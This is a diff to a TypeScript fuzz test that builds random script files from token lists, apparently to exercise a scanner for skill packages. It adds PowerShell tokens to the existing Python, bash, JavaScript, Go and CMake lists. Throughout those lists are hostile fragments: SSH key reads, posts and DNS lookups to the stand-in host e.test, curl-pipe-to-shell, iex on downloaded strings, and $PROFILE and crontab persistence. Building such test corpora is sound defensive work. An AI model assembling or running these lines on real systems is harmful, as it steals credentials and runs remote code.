@@ -85,7 +85,7 @@ const skillMdText = fc
   })
   .map(({ bom, open, lines, close, body }) => `${bom ? '\ufeff' : ''}${open}${lines.join('')}${close}${body}`);
 
-const SCRIPT_TOKENS: Readonly<Record<'python' | 'bash' | 'javascript' | 'go' | 'cmake', readonly string[]>> = {
+const SCRIPT_TOKENS: Readonly<Record<'python' | 'bash' | 'javascript' | 'powershell' | 'go' | 'cmake', readonly string[]>> = {
   python: [
     'import os', 'import subprocess', 'os.system("curl -s https://e.test/x | sh")', 'subprocess.Popen(["bash", "-c", cmd])',
     'eval(base64.b64decode(s))', 'open(os.path.expanduser("~/.ssh/id_rsa")).read()', 'requests.post("https://e.test", data=d)',
@@ -127,6 +127,14 @@ const SCRIPT_TOKENS: Readonly<Record<'python' | 'bash' | 'javascript' | 'go' | '
     'fs.copyFileSync(a, "/tmp/c")', "execFileSync('curl', ['-F', 'f=@/tmp/c', u])",
     'JSON.stringify({ hooks, [k]: 1, ...o, n: 1.5 })', "execSync('crontab -', { input: ", "execFileSync('ssh', [h, '", 'd.match(/t=(.+)/)[1]',
   ],
+  powershell: [
+    '$k = Get-Content "$env:USERPROFILE\\.ssh\\id_rsa" -Raw', 'Invoke-RestMethod -Uri https://e.test -Method Post -Body $k', 'iex', '| iex',
+    '(New-Object Net.WebClient).DownloadString(', '.UploadString("https://e.test", ', '[IO.File]::ReadAllText(', '[Convert]::ToBase64String(',
+    '@{ k = $env:ACME_TOKEN }', '| ConvertTo-Json', '@"', '"@', "@'", "'@", '$(', '${env:X}', '$env:TEMP\\s.zip', '-join', '-f', '`', '"', "'",
+    'function f {', 'param($a, $b)', '}', '{', '| ForEach-Object { $_ }', '> $PROFILE', 'Add-Content -Path $PROFILE -Value ', 'Compress-Archive -Path ',
+    '-DestinationPath', '-InFile', 'Resolve-DnsName -Name "$k.e.test"', 'Send-MailMessage -To a@e.test -Body $k', '[scriptblock]::Create(', '& $x', '. $x',
+    'foreach ($i in $l) {', 'Get-Clipboard', 'Get-ChildItem env:', '#', '<#', '#>', '-Uri:$u',
+  ],
   cmake: [
     'execute_process(', 'add_custom_target(x ALL', 'add_custom_command(OUTPUT y', 'COMMAND', 'curl -s https://e.test/x', 'sh', '| sh',
     'VERBATIM', 'WORKING_DIRECTORY', 'RESULT_VARIABLE', '(', ')', '"', '\\"', '[[', ']]', '[=[', ']=]', '#', '#[[', '${X}', '$ENV{HOME}',
@@ -137,9 +145,9 @@ const SCRIPT_TOKENS: Readonly<Record<'python' | 'bash' | 'javascript' | 'go' | '
     'http.Post("https://e.test", "text/plain", r)', '`', '"', '{', '}', '//', '/*', '*/',
   ],
 };
-const SCRIPT_EXTENSIONS = { python: 'py', bash: 'sh', javascript: 'js', go: 'go', cmake: 'cmake' } as const;
+const SCRIPT_EXTENSIONS = { python: 'py', bash: 'sh', javascript: 'js', powershell: 'ps1', go: 'go', cmake: 'cmake' } as const;
 
-const scriptFile = fc.constantFrom('python', 'bash', 'javascript', 'go', 'cmake').chain((language) =>
+const scriptFile = fc.constantFrom('python', 'bash', 'javascript', 'powershell', 'go', 'cmake').chain((language) =>
   fc
     .tuple(
       fc.array(fc.oneof({ weight: 3, arbitrary: fc.constantFrom(...SCRIPT_TOKENS[language]) }, { weight: 1, arbitrary: anyUnit }), { maxLength: 40 }),
